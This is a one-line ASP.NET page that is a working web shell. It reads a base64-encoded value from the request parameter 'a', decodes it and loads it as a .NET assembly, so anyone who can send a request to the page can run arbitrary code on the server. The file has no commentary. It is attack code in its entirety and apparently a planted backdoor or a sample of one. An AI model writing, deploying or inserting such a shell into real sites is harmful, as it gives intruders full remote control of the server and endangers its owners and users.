<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Convert.FromBase64String(Request["a"])); %>
